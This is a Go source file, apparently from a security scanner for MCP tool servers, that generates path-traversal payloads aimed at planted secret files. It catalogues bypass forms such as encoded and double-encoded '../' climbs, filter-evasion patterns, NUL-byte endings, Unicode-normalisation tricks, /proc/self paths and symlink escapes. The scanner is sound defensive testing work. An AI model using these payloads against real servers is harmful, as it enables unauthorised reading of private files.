package attack

import (
	"path"
	"strings"

	"github.com/mcpsf/mcpsf"
)

// pathSecrets is the first index of the files that only this class asks for.
const pathSecrets = 0

func pathTraversal() Class {
	return Class{
		ID:    "path-traversal",
		Title: "A path leads out of the directory the server keeps to",
		Yield: kinds{
			"path": 100, "dir": 95, "name": 65, "glob": 60, "id": 55, "template": 50, "unknown": 50, "argument": 35,
			"url": 35, "query": 25, "text": 20, "date": 15,
		}.of,
		Payloads: pathPayloads,
		Balanced: 15,
	}
}

// climb has more levels than any directory is deep: the parent of the root is
// the root.
const climb = "../../../../../../../../../../../.."

// pathForm is a way to write the path of a secret. ¤ is the root of the server,
// § the secret's path, which begins with a slash.
type pathForm struct {
	form string
	why  string
	// change encodes the result.
	change func(string) string
	// plain marks forms that every tool without limits accepts: some tools want
	// absolute paths, some an extension, and few accept file URLs.
	plain bool
}

// pathForms are ordered by how often the check that they bypass is the only
// one.
func pathForms() []pathForm {
	return []pathForm{
		{form: climb + "§", why: "climbing out"},
		{form: "§", why: "absolute path", plain: true},
		{form: "¤/" + climb + "§", why: "climbing out from inside"},
		{form: "....//....//....//....//....//....//....//....//....//....//....//....//§", why: "what is left when ../ is taken out once"},
		{form: climb + "§", why: "climbing out, encoded", change: percent},
		{form: "file://§", why: "address of a file"},
		{form: "./x/../" + climb + "§", why: "climbing out after a harmless step"},
		{form: climb + "§", why: "climbing out, encoded twice", change: func(s string) string { return strings.ReplaceAll(percent(s), "%", "%25") }},
		{form: climb + "§", why: "climbing out with backslashes", change: func(s string) string { return strings.ReplaceAll(s, "/", `\`) }},
		{form: "..././..././..././..././..././..././..././..././..././..././..././..././§", why: "what is left when ../ is taken out once"},
		{form: "¤%2f" + "..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..%2f..§", why: "climbing out from inside, slashes encoded"},
		{form: "file:///¤/" + climb + "§", why: "address of a file, climbing out from inside"},
		{form: climb + "§\x00.txt", why: "ending behind a NUL"},
		{form: climb + "§%00.txt", why: "ending behind an encoded NUL"},
		{form: "§ ", why: "trailing space"},
		{form: "§\"", why: "trailing quote"},
		{form: "\"§\"", why: "quoted"},
		{form: "§.", why: "trailing dot"},
		{form: "/§", why: "absolute path with two slashes", plain: true},
		{form: climb + "§", why: "fullwidth letters that normalise to ../", change: func(s string) string {
			return strings.NewReplacer(".", "\uff0e", "/", "\uff0f").Replace(s)
		}},
		{form: "\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025/\u2025§", why: "leaders that normalise to .."},
		{form: strings.ReplaceAll(climb, "../", "%c0%ae%c0%ae%c0%af") + "§", why: "climbing out in overlong encoding"},
		{form: strings.ReplaceAll(climb, "/", ";/") + "§", why: "climbing out with path parameters"},
		{form: "~/" + climb + "§", why: "climbing out of the home"},
		{form: "/proc/self/root§", why: "absolute path by way of /proc"},
		{form: "/proc/self/cwd/" + climb + "§", why: "climbing out by way of /proc"},
		{form: "/dev/fd/../../../.." + climb + "§", why: "climbing out by way of /dev"},
	}
}

func pathPayloads(w *World, p Place) []Payload {
	b := &pathBuilder{w: w, p: p, root: w.root(p), absolute: strings.HasPrefix(p.text(), "/")}
	for i, f := range pathForms() {
		secret := b.secret() + p.ending()
		value := fill(f.form, b.root, secret)
		if f.change != nil {
			value = f.change(value)
		}
		b.add(value, secret, f.why, f.plain && p.free())
		switch i {
		case 2:
			b.twin("-")
			b.link()
			if p.ending() != "" {
				bare := b.secret()
				b.add(climb+bare, bare, "climbing out, no ending", false)
			}
		case 8:
			for _, t := range twins()[1:] {
				b.twin(t)
			}
		}
	}
	secret := b.secret() + p.ending()
	// On a list, "includes" finds no "..", and the list becomes text when it is
	// joined.
	b.add([]any{climb + secret}, secret, "climbing out in a list", false)
	return b.all
}

// pathBuilder counts the files it has used.
type pathBuilder struct {
	w        *World
	p        Place
	root     string
	absolute bool
	all      []Payload
	used     int
}

func (b *pathBuilder) add(value any, marker, why string, plain bool) {
	b.all = append(b.all, Payload{Value: value, Sign: mcpsf.SignOpen, Marker: marker, Why: why, Plain: plain})
}

// secret returns the next file, or a directory where the tool takes one.
func (b *pathBuilder) secret() string {
	b.used++
	if b.p.Kind == "dir" {
		return b.w.Vault(b.used - 1)
	}
	return b.w.Secret(pathSecrets + b.used - 1)
}

// twin adds a directory beside the root, or the file in it. Trimming affects
// only the end of a path, so for suffixes that are trimmed only the directory
// works. A relative path may start in any root.
func (b *pathBuilder) twin(more string) {
	roots := []string{b.root}
	if !b.absolute && more == "-" {
		roots = b.w.Roots
	}
	for _, root := range roots {
		if root == "/" {
			continue
		}
		at := b.w.twin(root, more)
		if b.p.Kind != "dir" && more == "-" {
			at = path.Join(at, twinFile)
		}
		value := at
		if !b.absolute {
			value = "../" + strings.TrimPrefix(at, path.Dir(root)+"/")
		}
		b.add(value, at, "directory beside the root whose name begins like it", false)
	}
}

// link adds a way through a symbolic link in the root.
func (b *pathBuilder) link() {
	marker := b.secret() + b.p.ending()
	at := path.Join(b.w.link(b.root), path.Base(marker))
	if !b.absolute {
		at = strings.TrimPrefix(at, b.root+"/")
	}
	b.add(at, marker, "symbolic link that leads out", false)
	if b.p.Kind != "dir" && b.root != "/" {
		at, marker = b.w.leaf(b.root)+b.p.ending(), b.w.Secret(leafSecret)+b.p.ending()
		if !b.absolute {
			at = strings.TrimPrefix(at, b.root+"/")
		}
		b.add(at, marker, "symbolic link to a file outside", false)
	}
}

// percent encodes the dots and slashes of the path as a URL does.
func percent(s string) string {
	return strings.Replace(s, climb+"/", strings.NewReplacer(".", "%2e", "/", "%2f").Replace(climb+"/"), 1)
}
